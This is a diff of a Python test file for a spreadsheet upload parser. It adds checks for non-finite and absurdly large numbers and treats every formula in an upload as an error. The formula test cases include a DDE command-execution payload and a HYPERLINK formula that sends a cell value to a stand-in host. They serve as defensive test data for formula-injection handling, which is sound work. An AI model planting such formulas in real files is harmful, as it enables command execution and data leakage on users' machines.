@@ -76,6 +76,40 @@ def test_what_a_person_typed_is_read_as_meant_with_a_warning_at_the_cell(templat
     assert _value(parsed, "indicator_values", "JZ-K01", "value") == expected
 
 
+@pytest.mark.parametrize(
+    ("typed", "code"),
+    [
+        ("1e999", "value-not-finite"),
+        ("-1e999", "value-not-finite"),
+        ("inf", "value-not-finite"),
+        ("NaN", "value-not-finite"),
+        ("1.79e308", "value-too-large"),
+        ("1000000000000001", "value-too-large"),
+        (2e15, "value-too-large"),
+        ("1e400家", "value-not-finite"),
+    ],
+)
+def test_non_finite_and_absurd_numbers_are_errors_at_their_cell_and_not_stored(template, typed, code):
+    parsed = read_upload(fill_template(template, indicators={"JZ-K01": typed}))
+    assert _flat(parsed.issues) == [[IND, "N4", code]]
+    assert parsed.issues[0].is_error and "{" not in parsed.issues[0].message
+    assert _value(parsed, "indicator_values", "JZ-K01", "value") is None
+
+
+def test_the_magnitude_bound_is_inclusive_and_named_in_the_message(template):
+    parsed = read_upload(fill_template(template, indicators={"JZ-K01": 1e15, "JZ-K03": "-1e16"}))
+    assert _flat(parsed.issues) == [[IND, "N6", "value-too-large"]]
+    assert "10^15" in parsed.issues[0].message
+    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 1e15
+
+
+@pytest.mark.parametrize("typed", ["-0", "-0.0", -0.0, "－０"])
+def test_negative_zero_is_read_as_zero(template, typed):
+    parsed = read_upload(fill_template(template, indicators={"JZ-K01": typed}))
+    value = _value(parsed, "indicator_values", "JZ-K01", "value")
+    assert value == 0 and str(value) == "0.0"
+
+
 def test_full_width_digits_are_read_as_numbers_with_a_warning(template):
     parsed = read_upload(fill_template(template, indicators={"JZ-K01": "１２０"}))
     assert _flat(parsed.issues) == [["指标填报", "N4", "number-full-width"]]
@@ -132,20 +166,47 @@ def test_a_formula_without_a_cached_value_is_an_error_at_its_cell(template):
     assert _value(parsed, "indicator_values", "JZ-K01", "value") is None
 
 
-def test_a_formula_with_a_cached_value_is_accepted(template):
-    filled = patch_sheet_xml(
-        template, IND, lambda xml: _set_cell_xml(xml, "N4", '<c r="N4" s="0"><f>100+20</f><v>120</v></c>')
-    )
-    parsed = read_upload(filled)
-    assert parsed.issues == []
-    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 120
+@pytest.mark.parametrize(
+    ("ref", "cell", "shown"),
+    [
+        ("N4", '<c r="N4" s="0"><f>100+20</f><v>120</v></c>', "=100+20"),
+        ("O4", '<c r="O4" t="str"><f>IF(N4="","",N4)</f><v></v></c>', '=IF(N4="","",N4)'),
+        ("O4", '<c r="O4" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>', "=cmd|' /C calc'!A0"),
+        (
+            "O5",
+            '<c r="O5" t="str"><f>HYPERLINK("http://x.example/?v="&amp;N5,"来源")</f><v>来源</v></c>',
+            None,
+        ),
+        ("N5", '<c r="N5"><f t="shared" ref="N5:N6" si="0">N4*2</f><v>240</v></c>', "=N4*2"),
+    ],
+    ids=["arithmetic", "empty-text-result", "dde", "hyperlink", "shared"],
+)
+def test_a_formula_with_a_cached_value_is_an_error_at_its_cell_and_its_result_unread(
+    template, ref, cell, shown
+):
+    parsed = read_upload(patch_sheet_xml(template, IND, lambda xml: _set_cell_xml(xml, ref, cell)))
+    assert _flat(parsed.issues) == [[IND, ref, "formula-not-allowed"]]
+    assert parsed.issues[0].is_error and parsed.issues[0].value.startswith("=")
+    assert shown is None or parsed.issues[0].value == shown
+    code = {"4": "JZ-K01", "5": "JZ-K02"}[ref[1:]]
+    assert _value(parsed, "indicator_values", code, "value" if ref[0] == "N" else "note") is None
 
 
-def test_a_text_formula_with_a_cached_empty_string_is_a_value_not_a_missing_result(template):
-    cell = '<c r="O4" t="str"><f>IF(N4="","",N4)</f><v></v></c>'
-    parsed = read_upload(patch_sheet_xml(template, IND, lambda xml: _set_cell_xml(xml, "O4", cell)))
-    assert parsed.issues == []
-    assert _value(parsed, "indicator_values", "JZ-K01", "note") is None
+def test_a_formula_outside_the_table_is_an_error_at_its_cell(template):
+    def scratch(book):
+        book[IND]["Z2"] = "=SUM(N4:N7)"
+        book[TASK]["A1"] = '=HYPERLINK("http://x.example","任务")'
+
+    parsed = read_upload(fill_valid(template, edit=scratch))
+    assert _flat(parsed.issues) == [[IND, "Z2", "formula-not-allowed"], [TASK, "A1", "formula-not-allowed"]]
+
+
+def test_a_built_template_has_no_formulas_so_every_formula_came_from_the_upload(template):
+    import zipfile
+
+    archive = zipfile.ZipFile(io.BytesIO(template))
+    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(re.search(rb"<(\w+:)?f[ >/]", archive.read(n)) for n in sheets)
 
 
 @pytest.mark.parametrize(
